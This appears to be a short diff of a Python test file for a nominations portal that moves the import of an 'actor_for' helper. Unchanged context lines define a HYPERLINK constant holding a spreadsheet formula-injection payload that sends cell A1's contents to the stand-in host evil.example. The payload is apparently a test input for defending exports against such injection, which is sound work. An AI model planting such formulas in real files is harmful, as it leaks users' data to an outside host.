@@ -10,8 +10,9 @@ from nominations import services
 from nominations.services import NominationError
 from nominations.tables import Nomination
 from portal.tables import AuditEntry
+from tests.factories import actor_for
 from tests.helpers import login
-from tests.nominations.conftest import UNIT, actor_for
+from tests.nominations.conftest import UNIT
 from tests.nominations.test_pages import PDF, PHOTO, error_at, form_files, send_form
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
